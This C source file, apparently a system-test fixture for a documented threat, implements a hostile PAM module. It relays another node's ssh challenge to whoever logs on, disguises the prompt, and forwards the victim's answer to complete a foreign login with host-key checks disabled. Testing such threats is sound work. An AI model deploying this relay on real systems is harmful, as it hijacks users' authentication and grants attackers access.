/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A PAM module of a hostile node (THREATS.md C2): whoever logs on here is shown the challenge of another node, fetched at that moment by a login of
 * ours as the same account, and the answer goes back there. Arguments: the other node's address, and a directory for the fifos.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <security/pam_ext.h>
#include <security/pam_modules.h>

#define PROMPT_MAX 4096

/* The other end of tests/system/askpass_relay: prompt out of one fifo, answer into another. */
static int exchange(pam_handle_t *pamh, const char *dir)
{
	char path[512], prompt[PROMPT_MAX + 1], *reply = NULL;
	const char *shown;
	size_t n;
	FILE *f;

	(void)snprintf(path, sizeof path, "%s/prompt", dir);
	if ((f = fopen(path, "r")) == NULL)
		return PAM_AUTH_ERR;
	n = fread(prompt, 1, PROMPT_MAX, f);
	fclose(f);
	prompt[n] = '\0';
	/* what our own ssh put in front: the victim's ssh puts its own there */
	shown = prompt[0] == '(' && strstr(prompt, ") ") != NULL ? strstr(prompt, ") ") + 2 : prompt;
	(void)!pam_prompt(pamh, PAM_PROMPT_ECHO_OFF, &reply, "%s", shown);
	(void)snprintf(path, sizeof path, "%s/answer", dir);
	if ((f = fopen(path, "w")) != NULL) {
		(void)fprintf(f, "%s\n", reply != NULL ? reply : "");
		(void)fclose(f);
	}
	free(reply);
	return PAM_AUTH_ERR;
}

static pid_t dial(const char *user, const char *host, const char *dir)
{
	char target[300], askpass[512], result[512];
	pid_t pid;
	int fd;

	(void)snprintf(target, sizeof target, "%s@%s", user, host);
	(void)snprintf(askpass, sizeof askpass, "SSH_ASKPASS=%s/askpass", dir);
	(void)snprintf(result, sizeof result, "%s/result", dir);
	if ((pid = fork()) != 0)
		return pid;
	if ((fd = open(result, O_WRONLY | O_CREAT | O_APPEND, 0600)) < 0)
		_exit(1);
	dup2(fd, 1);
	dup2(fd, 2);
	char *const environment[] = { askpass, "SSH_ASKPASS_REQUIRE=force", "PATH=/usr/bin:/bin", "HOME=/root", NULL };
	char *const arguments[] = { "ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "NumberOfPasswordPrompts=1", target, "echo", "we-are-in", NULL };
	execve("/usr/bin/ssh", arguments, environment);
	_exit(1);
}

__attribute__((visibility("default"))) int pam_sm_authenticate(pam_handle_t *pamh, int flags, int argc, const char **argv);
__attribute__((visibility("default"))) int pam_sm_setcred(pam_handle_t *pamh, int flags, int argc, const char **argv);

int pam_sm_authenticate(pam_handle_t *pamh, int flags, int argc, const char **argv)
{
	const char *user = NULL;
	int result, status;
	pid_t pid;

	(void)flags;
	if (argc != 2 || pam_get_user(pamh, &user, NULL) != PAM_SUCCESS || user == NULL)
		return PAM_AUTH_ERR;
	if ((pid = dial(user, argv[0], argv[1])) < 0)
		return PAM_AUTH_ERR;
	result = exchange(pamh, argv[1]);
	while (waitpid(pid, &status, 0) < 0 && errno == EINTR)
		;
	return result;
}

int pam_sm_setcred(pam_handle_t *pamh, int flags, int argc, const char **argv)
{
	(void)pamh;
	(void)flags;
	(void)argc;
	(void)argv;
	return PAM_SUCCESS;
}
